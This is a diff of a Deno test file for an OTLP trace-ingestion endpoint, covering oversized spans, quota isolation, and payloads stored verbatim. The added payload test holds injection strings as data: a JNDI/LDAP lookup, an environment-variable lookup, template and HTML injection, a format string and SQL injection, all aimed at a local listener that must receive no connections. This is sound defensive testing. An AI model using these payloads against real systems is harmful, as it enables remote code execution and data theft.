@@ -1,6 +1,8 @@
 /** What the door for spans of others makes of senders that are wrong, slow, greedy or malicious. */
 import assert from "node:assert/strict";
-import { testApp } from "@/tests/helpers/app.ts";
+import type { TraceResource } from "@/telemetry/model/resources.ts";
+import { apiClient } from "@/tests/helpers/api.ts";
+import { type TestApp, testApp } from "@/tests/helpers/app.ts";
 import { anyOtlpRequest } from "@/tests/helpers/any_otlp_request.ts";
 import { makeRandom, mutate } from "@/tests/helpers/mutate_bytes.ts";
 import { makeIngestKey, makeOtlpPost, readOtlpAnswer } from "@/tests/helpers/otlp_client.ts";
@@ -68,19 +70,54 @@ Deno.test("POST /v1/traces stores spans whose indexed texts are too long for an 
   ]
     .map((name) => text(name, long()));
   const resource = { "service.name": long(), "deployment.environment": long() };
-  const request = makeOtlpRequest([makeOtlpSpan({ name: long(), attributes })], { resource });
-  const answer = await readOtlpAnswer(await app.fetch("/v1/traces", makeOtlpPost(request, { key })));
+  const [traceId, name] = [randomHex(16), long()];
+  const large = { key: "app.text", value: { stringValue: `needle${"word ".repeat(400_000)}` } };
+  const span = makeOtlpSpan({ traceId, name, attributes: [...attributes, large] });
+  const answer = await readOtlpAnswer(
+    await app.fetch("/v1/traces", makeOtlpPost(makeOtlpRequest([span], { resource }), { key })),
+  );
   assert.deepEqual([answer.status, answer.body], [200, {}]);
+  const read = await apiClient(app, "staff");
+  const { body: spans } = await read("GET", `/api/v1/telemetry/spans/?trace=${traceId}`);
+  const { attributes: stored, service_name } = spans.results[0];
+  assert.deepEqual([spans.results[0].name, service_name.length, stored["app.text"].length], [
+    name.slice(0, 1_024),
+    1_024,
+    8_192,
+  ]);
+  const { body: traces } = await read("GET", `/api/v1/telemetry/traces/?service_name=${service_name}`);
+  assert.deepEqual(traces.results.map(({ trace_id }: TraceResource) => trace_id), [traceId]);
+  assert.equal((await read("GET", `/api/v1/telemetry/traces/?search=${"word+".repeat(1_000)}`)).status, 400);
 });
 
 Deno.test("POST /v1/traces stores 500 payloads that mean something elsewhere as they came", async () => {
   await using app = await testApp({ isSeeded: false });
   const key = await makeIngestKey(app);
-  const payloads = ["${jndi:ldap://127.0.0.1:1/a}", "${env:PATH}", "{{7*7}}", "%s%x%n", "'; drop table users; --"];
+  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
+  let connects = 0;
+  const counted = (async () => {
+    for await (const connection of listener) {
+      connects++;
+      connection.close();
+    }
+  })();
+  const here = `127.0.0.1:${listener.addr.port}`;
+  const payloads = [
+    `\${jndi:ldap://${here}/a}`,
+    `http://${here}/\${env:PATH}`,
+    `{{7*7}}<img src=http://${here}/>`,
+    "%s%x%n",
+    "'; drop table users; --",
+  ];
   const spans = makeOtlpTrace(500).map((span, i) => ({ ...span, attributes: [text("p", `${payloads[i % 5]}${i}`)] }));
   await app.fetch("/v1/traces", makeOtlpPost(makeOtlpRequest(spans), { key }));
   const rows = await app.sql`select attributes->>'p' as p from telemetry_spans`;
   assert.deepEqual(new Set(rows.map(({ p }) => p)), new Set(spans.map((_, i) => `${payloads[i % 5]}${i}`)));
+  const staff = await app.as("staff");
+  assert.equal((await staff(`/admin/telemetry/traces/${spans[0]!.traceId}`)).status, 200);
+  listener.close();
+  await counted;
+  assert.equal(connects, 0);
 });
 
 Deno.test("POST /v1/traces holds one key to its quota and leaves another alone", async () => {
@@ -88,6 +125,7 @@ Deno.test("POST /v1/traces holds one key to its quota and leaves another alone",
   const noisy = await makeIngestKey(app, { spansPerSecond: 20 });
   const quiet = await makeIngestKey(app);
   const statuses = { noisy: [] as number[], quiet: [] as number[] };
+  const alone = await timeQuiet(app, quiet);
   for (let i = 0; i < 10; i++) {
     const [first, second] = await Promise.all(
       [noisy, quiet].map((key) => app.fetch("/v1/traces", makeOtlpPost(makeOtlpRequest(makeOtlpTrace(20)), { key }))),
@@ -100,7 +138,29 @@ Deno.test("POST /v1/traces holds one key to its quota and leaves another alone",
   }
   assert.ok(statuses.noisy.filter((status) => status === 429).length >= 7);
   assert.deepEqual(new Set(statuses.quiet), new Set([200]));
+  const answers: Promise<void>[] = [];
+  const noise = setInterval(() => {
+    const post = makeOtlpPost(makeOtlpRequest(makeOtlpTrace(20)), { key: noisy });
+    answers.push(app.fetch("/v1/traces", post).then((response) => response.body?.cancel()));
+  }, 20);
+  const beside = await timeQuiet(app, quiet);
+  clearInterval(noise);
+  await Promise.all(answers);
+  assert.ok(beside < 2 * alone + 50, `${beside} ms beside a noisy key, ${alone} ms alone`);
 });
+
+/** The slowest but one of 30 answers, in milliseconds. */
+async function timeQuiet(app: TestApp, key: string): Promise<number> {
+  const times: number[] = [];
+  for (let i = 0; i < 30; i++) {
+    const began = performance.now();
+    const response = await app.fetch("/v1/traces", makeOtlpPost(makeOtlpRequest(makeOtlpTrace(5)), { key }));
+    await response.body?.cancel();
+    assert.equal(response.status, 200);
+    times.push(performance.now() - began);
+  }
+  return times.sort((a, b) => b - a)[1]!;
+}
 
 Deno.test("POST /v1/traces takes spans of a key with the scope admin, which name no customer", async () => {
   await using app = await testApp({ isSeeded: false });
